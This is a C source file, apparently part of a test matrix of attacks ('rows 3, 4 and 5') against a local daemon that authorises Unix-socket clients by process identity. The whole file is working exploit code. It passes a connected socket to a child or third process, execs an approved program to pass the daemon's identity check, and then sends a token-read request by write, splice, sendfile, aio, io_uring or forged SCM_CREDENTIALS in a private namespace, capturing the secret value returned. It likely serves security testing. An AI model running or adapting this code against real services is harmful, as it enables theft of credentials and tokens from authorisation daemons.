/* Rows 3, 4 and 5: connects, keeps the socket in a child, and becomes the approved program before the daemon looks.
 *
 *   attack-handover SOCKET TRIES APPROVED MODE
 *     queued   the request is written before (row 3)
 *     hello    the same, greeting in version 2 first (row 3)
 *     child    the child writes it afterwards (row 4)
 *     passed   a third process gets the socket by SCM_RIGHTS and writes it (row 4)
 *     splice, sendfile, aio, uring   the child writes it by other means than write and send (row 4)
 *     forged   all in an own user and pid namespace, where the child may sign as anybody (row 5)
 */
#include "attack-common.h"
#include "attack-descriptors.h"
#include <linux/aio_abi.h>
#include <linux/io_uring.h>
#include <sys/sendfile.h>
#include <sys/uio.h>

static const char *mode;

static void say_as(int fd, const char *text, pid_t pid)
{
    union { char bytes[CMSG_SPACE(sizeof(struct ucred))]; struct cmsghdr align; } control;
    struct iovec part = { (void *)text, strlen(text) };
    struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes };
    struct ucred claim = { pid, getuid(), getgid() };
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_CREDENTIALS;
    header->cmsg_len = CMSG_LEN(sizeof claim);
    memcpy(CMSG_DATA(header), &claim, sizeof claim);
    if (sendmsg(fd, &message, MSG_NOSIGNAL) < 0 && errno != EPIPE && errno != ECONNRESET)
        die("SCM_CREDENTIALS");
}

static void say_by_splice(int fd, const char *text)
{
    int ends[2];
    struct iovec part = { (void *)text, strlen(text) };
    if (pipe2(ends, O_CLOEXEC) != 0 || vmsplice(ends[1], &part, 1, 0) != (ssize_t)part.iov_len
        || splice(ends[0], NULL, fd, NULL, part.iov_len, 0) != (ssize_t)part.iov_len)
        die("splice");
}

static void say_by_sendfile(int fd, const char *text)
{
    off_t start = 0;
    int file = (int)syscall(SYS_memfd_create, "said", MFD_CLOEXEC);
    if (write(file, text, strlen(text)) != (ssize_t)strlen(text) || sendfile(fd, file, &start, strlen(text)) != (ssize_t)strlen(text))
        die("sendfile");
}

static void say_by_aio(int fd, const char *text)
{
    aio_context_t context = 0;
    struct io_event event;
    struct iocb order = { .aio_lio_opcode = IOCB_CMD_PWRITE, .aio_fildes = (uint32_t)fd, .aio_buf = (uintptr_t)text, .aio_nbytes = strlen(text) };
    struct iocb *orders[] = { &order };
    if (syscall(SYS_io_setup, 1, &context) != 0 || syscall(SYS_io_submit, context, 1, orders) != 1
        || syscall(SYS_io_getevents, context, 1, 1, &event, NULL) != 1 || event.res != (long)strlen(text))
        die("aio");
}

/* By a thread of the kernel's that submits in this process's name. */
static void say_by_uring(int fd, const char *text)
{
    struct io_uring_params how = { .flags = IORING_SETUP_SQPOLL, .sq_thread_idle = 1000 };
    int ring = (int)syscall(SYS_io_uring_setup, 4, &how);
    if (ring < 0)
        die("io_uring");
    char *queue = mmap(NULL, how.sq_off.array + how.sq_entries * sizeof(uint32_t), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *order = mmap(NULL, how.sq_entries * sizeof *order, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (queue == MAP_FAILED || order == MAP_FAILED)
        die("rings");
    *order = (struct io_uring_sqe) { .opcode = IORING_OP_SEND, .fd = fd, .addr = (uintptr_t)text, .len = (uint32_t)strlen(text), .msg_flags = MSG_NOSIGNAL };
    ((uint32_t *)(queue + how.sq_off.array))[0] = 0;
    __atomic_store_n((uint32_t *)(queue + how.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 0, 1, IORING_ENTER_GETEVENTS | IORING_ENTER_SQ_WAKEUP, NULL, 0) < 0)
        die("enter");
}

/* Waits until the connector is the approved program, lets the daemon go on, and takes what it says. */
static void harvest(int fd, int became, int thawed, pid_t connector)
{
    char c;
    int pair[2];
    if (read(became, &c, 1) != 0)
        die("exec");
    if (!strcmp(mode, "passed")) {
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0)
            die("socketpair");
        if (fork() == 0) {
            close(fd);
            fd = receive_descriptor(pair[1]);
            close(thawed);
            say(fd, READ_TOKEN);
            report(hear(fd, "\"value\"", 20000));
            _exit(0);
        }
        send_descriptor(pair[0], fd);
        close(fd);
        close(thawed);
        wait(NULL);
        _exit(0);
    }
    if (!strcmp(mode, "child"))
        say(fd, READ_TOKEN);
    if (!strcmp(mode, "splice"))
        say_by_splice(fd, READ_TOKEN);
    if (!strcmp(mode, "sendfile"))
        say_by_sendfile(fd, READ_TOKEN);
    if (!strcmp(mode, "aio"))
        say_by_aio(fd, READ_TOKEN);
    if (!strcmp(mode, "uring"))
        say_by_uring(fd, READ_TOKEN);
    if (!strcmp(mode, "forged"))
        say_as(fd, READ_TOKEN, connector);
    close(thawed);
    report(hear(fd, "\"value\"", 20000));
    _exit(0);
}

static void connector(const char *path, const char *approved, int thawed)
{
    int became[2];
    pid_t self = getpid();
    if (pipe2(became, O_CLOEXEC) != 0)
        die("pipe");
    int fd = dial(path);
    if (!strcmp(mode, "hello"))
        say(fd, HELLO);
    if (!strcmp(mode, "hello") || !strcmp(mode, "queued"))
        say(fd, READ_TOKEN);
    pid_t child = fork();
    if (child == 0) {
        close(became[1]);
        harvest(fd, became[0], thawed, self);
    }
    close(thawed);
    execl(approved, approved, path, "pause", (char *)NULL);
    die("exec");
}

static void attempt(const char *path, const char *approved, pid_t server)
{
    int thawed[2], over[2];
    char c;
    if (pipe2(thawed, O_CLOEXEC) != 0 || pipe2(over, O_CLOEXEC) != 0)
        die("pipe");
    freeze(server);
    pid_t first = fork();
    if (first == 0) {
        close(thawed[0]);
        close(over[0]);
        if (!strcmp(mode, "forged")) {
            own_namespaces(CLONE_NEWPID);
            first = fork();
            if (first != 0) {
                close(thawed[1]);
                close(over[1]);
                waitpid(first, NULL, 0);
                _exit(0);
            }
            prctl(PR_SET_PDEATHSIG, SIGKILL);
        }
        connector(path, approved, thawed[1]);
    }
    close(thawed[1]);
    close(over[1]);
    if (read(thawed[0], &c, 1) != 0)
        die("thaw");
    thaw(server);
    if (read(over[0], &c, 1) != 0)
        die("over");
    kill(first, SIGKILL);
    while (waitpid(-1, NULL, 0) > 0)
        ;
    close(thawed[0]);
    close(over[0]);
}

int main(int count, char **arguments)
{
    if (count < 5)
        return 2;
    mode = arguments[4];
    pid_t server = server_of(arguments[1]);
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    for (int tries = atoi(arguments[2]); tries > 0; tries--)
        attempt(arguments[1], arguments[3], server);
    return 0;
}
